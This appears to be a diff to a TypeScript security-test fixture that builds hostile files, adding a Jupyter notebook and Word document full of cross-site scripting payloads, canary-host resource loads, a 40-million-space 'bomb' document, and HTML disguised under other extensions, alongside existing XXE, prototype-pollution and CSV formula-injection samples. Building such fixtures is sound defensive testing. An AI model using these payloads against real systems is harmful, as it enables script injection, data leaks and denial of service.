@@ -1,5 +1,7 @@
 /** Hostile file contents and names: known ways to run a script or to send a request to another host. */
 
+import { OFFICE, paragraph, wordFile } from './zip-file.js';
+
 export interface Hostile {
   readonly name: string;
   readonly content: string | Uint8Array;
@@ -99,6 +101,49 @@ export const HOSTILE_NAMES: readonly string[] = [
   '"; filename="evil.html',
 ];
 
+const notebook = (canary: string) => {
+  const html = [
+    `<script>${RUN}</script><img src=x onerror=${RUN}><table onclick="${RUN}"><tr><td>`,
+    `<img src="${canary}/nb.png"><script>${RUN}</script>1</td></tr></table>`,
+  ].join('');
+  const data = [
+    { 'text/html': html },
+    { 'image/svg+xml': svg(canary) },
+    { 'image/png': `"><img src=x onerror=${RUN}>` },
+    { 'application/javascript': RUN, 'text/plain': 'js' },
+    { 'text/markdown': markdownAttacks(canary).join('\n\n') },
+  ].map((bundle) => ({ output_type: 'display_data', data: bundle }));
+  return JSON.stringify({
+    nbformat: 4,
+    metadata: { language_info: { name: `<img src=x onerror=${RUN}>` } },
+    cells: [
+      { cell_type: 'markdown', source: markdownAttacks(canary).join('\n\n') },
+      { cell_type: 'code', source: `%%javascript\n${RUN}`, execution_count: 1, outputs: data },
+    ],
+  });
+};
+
+const word = (canary: string) => {
+  const styled = `<w:pPr><w:pStyle w:val="x"/></w:pPr>`;
+  return wordFile({
+    body: [
+      paragraph(`&lt;img src=x onerror=${RUN}&gt;`, styled),
+      `<w:p><w:hyperlink r:id="js"><w:r><w:t>js</w:t></w:r></w:hyperlink>`,
+      `<w:hyperlink r:id="data"><w:r><w:t>data</w:t></w:r></w:hyperlink></w:p>`,
+      `<w:altChunk r:id="chunk"/>`,
+      `<w:p><w:r><w:pict><v:shape onclick="${RUN}" onload="${RUN}" `,
+      `style="position:fixed;inset:0;background:url(${canary}/vml)">`,
+      `<v:imagedata r:id="far"/></v:shape></w:pict></w:r></w:p>`,
+    ].join(''),
+    links: { js: `javascript:${RUN}`, data: `data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;` },
+    relations: [
+      `<Relationship Id="chunk" Type="${OFFICE}/aFChunk" Target="chunk.html"/>`,
+      `<Relationship Id="far" Type="${OFFICE}/image" Target="${canary}/word.png" TargetMode="External"/>`,
+    ].join(''),
+    files: { 'word/chunk.html': page(canary) },
+  });
+};
+
 /** At least 60 files: attacks as notes, under a wrong extension, and in the name. */
 export function hostileFiles(canary: string): readonly Hostile[] {
   const notes = markdownAttacks(canary).map((content, n) => ({ name: `attack-${n}.md`, content }));
@@ -118,6 +163,13 @@ export function hostileFiles(canary: string): readonly Hostile[] {
       name: 'page.xml',
       content: `<?xml-stylesheet href="${canary}/x.xsl"?><!DOCTYPE a [<!ENTITY x SYSTEM "${canary}/ent">]><a>&x;</a>`,
     },
+    { name: 'attack.ipynb', content: notebook(canary) },
+    { name: 'attack.docx', content: word(canary) },
+    { name: 'bomb.docx', content: wordFile({ body: paragraph(' '.repeat(40_000_000)) }) },
+    { name: 'html-as.docx', content: page(canary) },
+    { name: 'html-as.heic', content: page(canary) },
+    { name: 'html-as.ipynb', content: page(canary) },
+    { name: 'html-as.woff2', content: page(canary) },
     { name: 'page.pdf', content: page(canary) },
     { name: 'page.json', content: `{"__proto__":{"x":"<img src=x onerror=${RUN}>"}}` },
     { name: 'formula.csv', content: `=HYPERLINK("${canary}/h"),@SUM(1),<img src=x onerror=${RUN}>\n` },
